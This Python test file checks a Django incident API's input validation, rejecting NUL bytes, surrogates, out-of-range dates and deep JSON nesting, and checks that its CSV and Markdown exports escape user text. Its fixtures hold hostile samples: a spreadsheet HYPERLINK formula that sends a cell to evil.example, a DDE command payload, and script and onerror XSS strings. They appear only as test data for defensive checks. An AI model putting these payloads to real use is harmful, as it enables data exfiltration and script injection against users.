"""Input PostgreSQL or Python cannot hold, sent to the API: each case answered 400 naming the field
(never 500), and nothing stored that would make a later read fail. Also the exports: user text in a
CSV cell never runs as a spreadsheet formula, and in the Markdown report never renders as HTML or
Markdown. Each test here failed on the code before issue #11."""

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime, timedelta

import django_filters
import pytest
import time_machine
from django.utils import timezone
from markdown_it import MarkdownIt
from rest_framework import serializers as drf_serializers

from config.api import TimestampField, TimestampFilter
from incidents import periods, selectors
from incidents.models import ActionItem, Incident, Tier
from stability.models import MaintenanceWindow
from stability.reports import build_report, report_csv_tables, report_csv_zip, report_markdown
from tests.factories import ActionItemFactory, IncidentFactory, SystemFactory, TeamFactory, UserFactory
from web import incident_csv

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 11, 20, 4, 0, tzinfo=UTC)
NUL = "\x00"


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def world():
    team = TeamFactory(slug="payments", name="Payments")
    system = SystemFactory(code="cashier", team=team, tier=Tier.P0)
    incident = IncidentFactory(systems=[system], title="Cashier down")
    return {"team": team, "system": system, "incident": incident}


def _incident_body(**changes) -> dict:
    body = {
        "title": "Payments timing out",
        "systems": ["cashier"],
        "occurred_at": "2026-11-20T03:00:00Z",
        "detected_at": "2026-11-20T03:01:00Z",
        "detection_source": "monitoring",
    }
    return {**body, **changes}


# --- 1. strings PostgreSQL cannot store --------------------------------------------------------------

# Every place a query parameter or a URL path segment reached the database unchecked.
QUERY_AND_PATH = [
    ("/api/v1/teams/pay%00ments/", "slug"),
    ("/api/v1/systems/cash%00ier/", "code"),
    ("/api/v1/alerts/?label=x=%00", "label"),
    ("/api/v1/metrics/closed-loop/?team=%00", "team"),
    ("/api/v1/metrics/closed-loop/?system=%00", "system"),
    ("/api/v1/reports/stability/?team=%00", "team"),
    ("/api/v1/reports/stability/csv/?table=incidents&system=%00", "system"),
    ("/api/v1/reports/stability/zip/?team=%00", "team"),
    ("/api/v1/reports/stability/markdown/?system=%00", "system"),
]


@pytest.mark.parametrize(("url", "field"), QUERY_AND_PATH)
def test_a_nul_in_a_query_or_a_path_is_a_400_naming_it(admin_client_api, world, url, field):
    response = admin_client_api.get(url)
    assert response.status_code == 400, response.content[:300]
    assert list(response.json()) == [field]
    assert "NUL" in response.json()[field][0]


# Every body field that is looked up (slugs of teams, systems, users) or stored as JSON.
BODIES = [
    ("post", "/api/v1/incidents/", _incident_body(systems=["cash\x00ier"]), "systems"),
    ("post", "/api/v1/incidents/", _incident_body(team=NUL), "team"),
    ("post", "/api/v1/incidents/", _incident_body(owner="ad\x00min"), "owner"),
    ("post", "/api/v1/severity/preview/", {"systems": [NUL]}, "systems"),
    ("post", "/api/v1/teams/", {"name": "Risk", "slug": "risk", "managers": [NUL]}, "managers"),
    ("post", "/api/v1/systems/", {"code": "ledger", "name": "Ledger", "tier": "P1", "team": NUL}, "team"),
    ("post", "/api/v1/integrations/", {"kind": "generic", "name": "g", "default_team": NUL}, "default_team"),
    (
        "post",
        "/api/v1/notification-channels/",
        {"kind": "email", "name": "n", "target": "a@example.com", "user": NUL},
        "user",
    ),
    ("post", "/api/v1/action-items/bulk/", {"ids": [1], "owner": NUL}, "owner"),
    ("post", "/api/v1/alerts/create-incident/", {"ids": [1], "systems": [NUL]}, "systems"),
    ("post", "/api/v1/severity-policies/", {"rules": {"A": [{"kind": NUL}]}, "recovery_targets": {}}, "rules"),
]


@pytest.mark.parametrize(("method", "url", "body", "field"), BODIES)
def test_a_nul_in_a_body_is_a_400_naming_the_field(admin_client_api, world, method, url, body, field):
    before = Incident.objects.count()
    response = getattr(admin_client_api, method)(url, body, format="json")
    assert response.status_code == 400, response.content[:300]
    assert list(response.json()) == [field]
    assert Incident.objects.count() == before


def test_an_action_item_owner_with_a_nul_is_a_400(admin_client_api, world):
    body = {"incident": world["incident"].pk, "title": "Add alert", "owner": "x\x00", "due_at": "2026-12-01T00:00:00Z"}
    response = admin_client_api.post("/api/v1/action-items/", body, format="json")
    assert response.status_code == 400
    assert list(response.json()) == ["owner"]
    assert ActionItem.objects.count() == 0


def test_the_400_is_in_the_readers_language(admin_client_api, world):
    body = _incident_body(title="收银台\x00")
    response = admin_client_api.post("/api/v1/incidents/", body, format="json", HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert response.json() == {"title": ["含有 NUL 字符（\\u0000），无法保存。"]}
    response = admin_client_api.get("/api/v1/reports/stability/?team=%00", HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert response.json() == {"team": ["含有 NUL 字符（\\u0000），无法保存。"]}


@pytest.mark.parametrize("escape", ["\\ud800", "\\udfff", "x\\udc00y"])
def test_a_lone_surrogate_is_a_400_naming_the_field(admin_client_api, world, escape):
    # Raw bytes: a JSON client may send the escape, which Python decodes to a string UTF-8 cannot encode.
    body = json.dumps(_incident_body())[:-1] + f', "summary": "{escape}"}}'
    response = admin_client_api.post("/api/v1/incidents/", body, content_type="application/json")
    assert response.status_code == 400
    assert list(response.json()) == ["summary"]
    assert "surrogate" in response.json()["summary"][0]
    assert Incident.objects.count() == 1


def test_a_nul_in_a_json_key_or_a_form_body_is_a_400(admin_client_api, world):
    response = admin_client_api.post("/api/v1/incidents/", '{"ti\\u0000tle": "x"}', content_type="application/json")
    assert response.status_code == 400
    assert list(response.json()) == ["ti\\u0000tle"]
    response = admin_client_api.post(
        f"/api/v1/incidents/{world['incident'].pk}/timeline/", {"text": "switched\x00 traffic"}, format="multipart"
    )
    assert response.status_code == 400
    assert list(response.json()) == ["text"]


# --- 2. timestamps ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("occurred_at", "9999-12-31T23:59:59-14:00"),
        ("occurred_at", "9999-12-31T23:59:59+08:00"),  # Python-valid here, past year 9999 in UTC-1
        ("occurred_at", "0001-01-01T00:00:00+14:00"),
        ("recovered_at", "2150-01-01T00:00:00Z"),
    ],
)
def test_an_absurd_incident_timestamp_is_a_400_naming_it(admin_client_api, world, field, value):
    response = admin_client_api.post("/api/v1/incidents/", _incident_body(**{field: value}), format="json")
    assert response.status_code == 400
    assert field in response.json()


def _api_serializer_classes():
    from incidents.api import serializers as incident_serializers
    from stability.api import alerts, integrations, metrics, notifications

    for module in (incident_serializers, alerts, integrations, metrics, notifications):
        for value in vars(module).values():
            ours = isinstance(value, type) and value.__module__ == module.__name__
            if ours and issubclass(value, drf_serializers.Serializer):
                yield value


def test_every_time_the_api_takes_or_shows_is_a_timestamp_field():
    """The class, not the cases: a new serializer field or model DateTimeField cannot escape the bounds.
    (The webhooks' wire formats are their own: stability/api/webhooks.py.)"""
    checked = []
    for serializer_class in _api_serializer_classes():
        for name, field in serializer_class().fields.items():
            if isinstance(field, drf_serializers.DateTimeField):
                assert isinstance(field, TimestampField), f"{serializer_class.__name__}.{name}"
                checked.append(f"{serializer_class.__name__}.{name}")
    assert "IncidentWriteSerializer.occurred_at" in checked and "MaintenanceWindowSerializer.ends_at" in checked
    assert "AlertSerializer.starts_at" in checked and len(checked) > 40


def test_every_time_filter_is_a_timestamp_filter():
    from incidents.filters import ActionItemFilter, IncidentFilter
    from stability.api.alerts import AlertFilter, MaintenanceWindowFilter
    from stability.api.metrics import FollowUpFilter
    from stability.api.notifications import NotificationFilter

    checked = []
    filtersets = (
        IncidentFilter,
        ActionItemFilter,
        AlertFilter,
        MaintenanceWindowFilter,
        FollowUpFilter,
        NotificationFilter,
    )
    for filterset in filtersets:
        for name, query_filter in filterset.base_filters.items():
            if isinstance(query_filter, django_filters.DateTimeFilter | django_filters.DateFilter):
                assert isinstance(query_filter, TimestampFilter), f"{filterset.__name__}.{name}"
                checked.append(name)
    assert {"occurred_after", "due_before", "received_after", "ends_after"} <= set(checked)


def test_a_timeline_note_before_2000_is_refused(admin_client_api, world):
    # It was stored, and read back as year 1 every reader west of UTC could not show.
    url = f"/api/v1/incidents/{world['incident'].pk}/timeline/"
    response = admin_client_api.post(url, {"text": "typo", "at": "0001-01-01T08:00:00+08:00"}, format="json")
    assert response.status_code == 400
    assert response.json() == {"at": ["This time is before the year 2000; check the date."]}


def test_far_future_due_dates_and_windows_are_refused(admin_client_api, world):
    item = {"incident": world["incident"].pk, "title": "Drill", "owner": "admin", "due_at": "9999-12-31T23:00:00+08:00"}
    response = admin_client_api.post("/api/v1/action-items/", item, format="json")
    assert response.status_code == 400
    assert response.json() == {"due_at": ["This time is after the year 2100; check the date."]}
    window = {"system": "cashier", "starts_at": "2026-11-20T00:00:00Z", "ends_at": "9999-12-31T23:59:59+08:00"}
    response = admin_client_api.post("/api/v1/maintenance-windows/", {**window, "reason": "forever"}, format="json")
    assert response.status_code == 400
    assert list(response.json()) == ["ends_at"]
    assert MaintenanceWindow.objects.count() == 0 and ActionItem.objects.count() == 0


def test_a_time_stored_by_another_path_is_still_read(admin_client_api, world):
    # 9999-12-31 20:00 UTC is year 10000 in Asia/Shanghai: the list could not be serialised at all.
    MaintenanceWindow.objects.create(
        system=world["system"], starts_at=NOW, ends_at=datetime(9999, 12, 31, 20, tzinfo=UTC), reason="imported"
    )
    response = admin_client_api.get("/api/v1/maintenance-windows/")
    assert response.status_code == 200, response.content
    assert response.json()["results"][0]["ends_at"] == "9999-12-31T20:00:00Z"


@pytest.mark.parametrize("period", ["9999-W52", "0001-01", "2026-11-01..9999-12-31", "0001-01-01..0001-01-02"])
def test_a_period_past_the_calendar_is_a_400_and_wide_filters_answer(admin_client_api, world, period):
    for url in ("/api/v1/incidents/", "/api/v1/metrics/incidents/", "/api/v1/reports/stability/"):
        response = admin_client_api.get(url, {"period": period})
        assert response.status_code == 400, url
        assert list(response.json()) == ["period"]
    # Filters take any time Python can hold in UTC, offsets PostgreSQL refuses (past ±15:59) included.
    for after in ("0001-01-02T00:00:00+14:00", "0078-04-07T11:14:13-21:20", "2026-11-20T00:00:00+23:59"):
        response = admin_client_api.get("/api/v1/incidents/", {"occurred_after": after})
        assert response.json()["count"] == 1, after
    response = admin_client_api.get("/api/v1/action-items/", {"due_after": "0959-11-13T09:17:49+18:19"})
    assert response.status_code == 200
    response = admin_client_api.get("/api/v1/maintenance-windows/", {"ends_after": "0078-04-07T11:14:13-21:20"})
    assert response.status_code == 200
    response = admin_client_api.get("/api/v1/incidents/", {"occurred_after": "0001-01-01T00:00:00+14:00"})
    assert response.json() == {"occurred_after": ["This time is out of range."]}
    response = admin_client_api.get("/api/v1/incidents/", {"occurred_before": "9999-12-31T23:59:59+14:00"})
    assert response.json()["count"] == 1
    response = admin_client_api.get("/api/v1/incidents/", {"occurred_before": "9999-12-31T23:59:59-14:00"})
    assert response.json() == {"occurred_before": ["This time is out of range."]}


# --- 3. deeply nested JSON -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    ["/api/v1/incidents/", "/api/v1/severity/preview/", "/api/v1/severity-policies/", "/api/v1/alerts/follow-up/"],
)
def test_json_nested_100000_deep_is_a_400(admin_client_api, world, url):
    response = admin_client_api.post(url, "[" * 100_000 + "]" * 100_000, content_type="application/json")
    assert response.status_code == 400
    assert "nested" in response.json()["detail"]


def test_json_nested_deeper_than_the_limit_is_a_400_naming_the_field(admin_client_api, world):
    rules = {"A": [{"kind": "tier_impact", "tier": "P0", "minutes": 60}]}
    for _level in range(100):
        rules = {"A": [rules]}
    body = {"rules": rules, "recovery_targets": {"A": 1, "B": 2, "C": 3, "D": 4}}
    response = admin_client_api.post("/api/v1/severity-policies/", body, format="json")
    assert response.status_code == 400
    assert response.json() == {"rules": ["Nested more than 64 levels deep."]}


# --- 4. exports ----------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _exported(incidents) -> list[dict]:
    content = "".join(incident_csv.export_stream(incidents)).lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(content)))


def test_incident_csv_cells_are_guarded_and_import_back_unchanged(world):
    user = UserFactory(username="engineer")
    for title in [*FORMULAS, "'=quoted already", "plain"]:
        IncidentFactory(systems=[world["system"]], title=title, cause="=1+1", handling="@handled")
    exported = _exported(selectors.incident_list().filter(cause="=1+1").order_by("pk"))
    titles = [row["title"] for row in exported]
    assert titles == [f"'{t}" for t in FORMULAS] + ["''=quoted already", "plain"]
    assert {row["cause"] for row in exported} == {"'=1+1"}
    assert {row["handling"] for row in exported} == {"'@handled"}

    content = "".join(incident_csv.export_stream(selectors.incident_list().filter(cause="=1+1").order_by("pk")))
    result = incident_csv.run(content.lstrip("\ufeff"), by=user, commit=True)
    assert result.ok and result.written
    imported = Incident.objects.filter(cause="=1+1").order_by("pk")[len(titles) :]  # the copies
    assert [i.title for i in imported] == [*FORMULAS, "'=quoted already", "plain"]
    assert {(i.cause, i.handling) for i in imported} == {("=1+1", "@handled")}


def test_report_csv_tables_and_zip_are_guarded(world):
    IncidentFactory(systems=[world["system"]], title=FORMULAS[0])
    report = build_report(period=periods.containing("month", timezone.now()))
    rows = list(csv.DictReader(io.StringIO(report_csv_tables(report)["incidents"])))
    assert sorted(row["title"] for row in rows) == ["'" + FORMULAS[0], "Cashier down"]
    archive = zipfile.ZipFile(io.BytesIO(report_csv_zip(report)))
    text = archive.read("incidents.csv").decode("utf-8-sig")
    assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(text)) for cell in row)


def test_markdown_report_shows_user_text_as_text(world):
    hostile = "<script>alert(1)</script> *bold* [link](https://evil.example) <img src=x onerror=alert(2)>"
    team = TeamFactory(slug="risk", name="<b>Risk</b> _team_")
    system = SystemFactory(code="ledger", name="# Ledger <i>", team=team, tier=Tier.P0)
    incident = IncidentFactory(systems=[system], title=hostile, cause="<u>cause</u>\n# heading", handling="`rm -rf`")
    ActionItemFactory(incident=incident, title="<iframe>", due_at=NOW - timedelta(days=3))
    report = build_report(period=periods.containing("month", timezone.now()), team=team)
    markdown = report_markdown(report, language="en")
    assert "<script>" not in markdown and "<b>" not in markdown
    rendered = MarkdownIt("commonmark").render(markdown)
    tags = set(re.findall(r"<([a-z0-9]+)", rendered))
    assert tags <= {"h1", "h2", "h3", "h4", "ul", "ol", "li", "p"}, tags  # h3, h4: the appendix's sections and tables
    assert "&lt;script&gt;alert(1)&lt;/script&gt; *bold* [link](https://evil.example)" in rendered
    assert "&lt;b&gt;Risk&lt;/b&gt; _team_" in rendered
    assert "Cause: &lt;u&gt;cause&lt;/u&gt; # heading." in rendered
    assert "Handling: `rm -rf`." in rendered
    assert "&lt;iframe&gt;" in rendered
